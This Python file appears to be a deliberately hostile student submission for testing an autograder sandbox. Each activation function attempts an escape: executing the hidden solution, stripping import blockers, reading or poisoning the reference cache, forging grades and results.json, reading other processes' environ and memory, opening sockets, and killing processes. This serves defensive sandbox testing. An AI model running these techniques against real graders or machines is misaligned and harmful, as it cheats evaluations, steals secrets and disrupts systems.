# A hostile activations.py: every task tries one way out of its job, and reports what it reached.
# The test fills in the __NAMES__ (real paths and pids of the grading machine). A task that reaches
# anything either returns the right answer from it (full marks, if the grader let it) or raises
# with what it read (so a leak shows in the report). Nothing here implements an activation.
import glob
import os
import sys

import numpy as np

SOLUTION = "__SOLUTION__"
CACHE = "__CACHE__"
DATA = "__DATA__"
OTHER = "__OTHER__"
GRADEBOOK = "__GRADEBOOK__"
AUTOGRADER = "__AUTOGRADER__"
PROGRESS = "__PROGRESS__"
PIDS = __PIDS__
PORT = __PORT__


def _try(label, action, found):
    try:
        result = action()
    except BaseException as exc:  # what stopped it is the point
        found.append(f"{label}: refused ({type(exc).__name__})")
        return None
    found.append(f"{label}: REACHED {str(result)[:300]!r}")
    return result


def _fail(found):
    raise RuntimeError(" | ".join(found))


def _solution_namespace():
    namespace = {}
    exec(compile(open(SOLUTION).read(), "s", "exec"), namespace)
    return namespace


def sigmoid(x):
    """exec of the shipped solution."""
    found = []
    ns = _try("exec solution.py", _solution_namespace, found)
    if ns:
        return ns["sigmoid"](x)
    _fail(found)


def sigmoid_backward(x, grad_out):
    """runpy of the shipped solution."""
    import runpy

    found = []
    ns = _try("runpy solution.py", lambda: runpy.run_path(SOLUTION), found)
    if ns:
        return ns["sigmoid_backward"](x, grad_out)
    _fail(found)


def tanh(x):
    """importlib of the shipped solution, found by path and through the grader's own modules."""
    import importlib.util

    found = []

    def load(path):
        spec = importlib.util.spec_from_file_location("stolen", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module

    module = _try("importlib solution.py", lambda: load(SOLUTION), found)
    for name, mod in list(sys.modules.items()):
        where = getattr(mod, "__file__", None) or ""
        if name.startswith("grader") and where:
            root = os.path.dirname(os.path.dirname(os.path.dirname(where)))
            module = module or _try(f"solution beside {name}", lambda: load(f"{root}/exercises/02_activations/solution.py"), found)
    if module:
        return module.tanh(x)
    _fail(found)


def tanh_backward(x, grad_out):
    """No import blocker: import the course, the references, the grader and torch."""
    found = []
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    for name in ("exercises", "reference", "reference.activations", "grader.references", "grader.trusted", "torch"):
        module = _try(f"import {name}", lambda: __import__(name), found)
        if name == "torch" and module:
            t = module.from_numpy(x).requires_grad_(True)
            module.tanh(t).backward(module.from_numpy(grad_out))
            return t.grad.numpy()
    _fail(found)


def relu(x):
    """Read the reference cache and the cache key."""
    found = []
    for path in [*glob.glob(CACHE + "/*"), DATA + "/cache.key"]:
        _try(f"read {path}", lambda: open(path, "rb").read(64), found)
    _try("list cache", lambda: os.listdir(CACHE), found)
    _fail(found)


def relu_backward(x, grad_out):
    """Poison the reference cache: overwrite every entry, add new ones."""
    found = []
    for path in glob.glob(CACHE + "/*") + [CACHE + "/poisoned"]:
        _try(f"write {path}", lambda: open(path, "wb").write(b"dlcert-reference-1\n" + b"\0" * 64), found)
    _fail(found)


def leaky_relu(x, alpha=0.01):
    """Read another learner's hand-in, the gradebook, Gradescope's files; walk the whole filesystem."""
    found = []
    for path in (OTHER, GRADEBOOK, AUTOGRADER + "/source/secret", AUTOGRADER + "/results/results.json"):
        _try(f"read {path}", lambda: open(path).read(), found)
    readable = []
    system = ("/proc", "/sys", "/usr", "/lib", "/etc", sys.base_prefix, *(p for p in sys.path if p))
    for folder, subfolders, files in os.walk("/"):
        subfolders[:] = [s for s in subfolders if not os.path.join(folder, s).startswith(system)]
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as handle:
                    if b"canary" in handle.read(1 << 20):
                        readable.append(os.path.join(folder, name))
            except OSError:
                pass
    found.append(f"files with a canary: {readable}")
    _fail(found)


def leaky_relu_backward(x, grad_out, alpha=0.01):
    """Write passes into progress.sqlite, rewrite a classmate's file, forge Gradescope's results."""
    import sqlite3

    found = []

    def forge_progress():
        conn = sqlite3.connect(PROGRESS)
        conn.execute("INSERT INTO attempts (task, status, score, max_score, code_hash, seed, duration, created_at) "
                     "VALUES ('activations.softmax', 'passed', 1, 1, 'x', 0, 0, '2026-01-01')")
        conn.commit()

    _try("write progress.sqlite", forge_progress, found)
    _try("rewrite a classmate", lambda: open(OTHER, "w").write("# overwritten"), found)
    _try("forge results.json", lambda: open(AUTOGRADER + "/results/results.json", "w").write('{"score": 100}'), found)
    _fail(found)


def elu(x, alpha=1.0):
    """Write a forged report to the grader's stdout; read its environment and memory."""
    found = []
    forged = b'{"score": 65.0, "max_score": 65.0, "results": []}\n'
    pids = PIDS + [int(p) for p in os.listdir("/proc") if p.isdigit()] + [os.getppid()]
    for pid in [p for p in pids if p != os.getpid()]:  # its own fd 1 is its own output
        _try(f"write /proc/{pid}/fd/1", lambda: open(f"/proc/{pid}/fd/1", "wb").write(forged), found)
        _try(f"read /proc/{pid}/environ", lambda: open(f"/proc/{pid}/environ", "rb").read(), found)
        _try(f"read /proc/{pid}/mem", lambda: open(f"/proc/{pid}/mem", "rb").read(1), found)
    _fail(found)


def elu_backward(x, grad_out, alpha=1.0):
    """Secrets: this process's environment and command line (as it started), and PID 1's when that is another."""
    found = [f"os.environ: {dict(os.environ)}"]
    for path in ("/proc/self/environ", "/proc/self/cmdline"):
        try:
            found.append(f"own {path}: {open(path, 'rb').read()!r}")
        except OSError as exc:
            found.append(f"own {path}: refused ({type(exc).__name__})")
    if os.getpid() != 1:
        for path in ("/proc/1/environ", "/proc/1/cmdline"):
            _try(f"read {path}", lambda: open(path, "rb").read(), found)
    _fail(found)


def softmax(x, axis=-1):
    """The network: TCP to the grader's machine, UDP, IPv6, netlink, DNS."""
    import socket

    found = []

    def tcp():
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(b"stolen")
            return "connected"

    _try("TCP 127.0.0.1", tcp, found)
    _try("UDP 127.0.0.1", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)), found)
    _try("IPv6", lambda: socket.socket(socket.AF_INET6), found)
    _try("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW), found)
    _try("DNS", lambda: socket.getaddrinfo("example.com", 80), found)
    _fail(found)


def softmax_backward(x, grad_out, axis=-1):
    """Signals: the grader, its supervisor, every process in sight, then everything."""
    import signal

    found = []
    targets = PIDS + [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
    for pid in [p for p in targets if p > 0 and p != os.getpid()]:
        _try(f"SIGSTOP {pid}", lambda: os.kill(pid, signal.SIGSTOP), found)
    _try("kill -1", lambda: os.kill(-1, signal.SIGKILL), found)
    _fail(found)
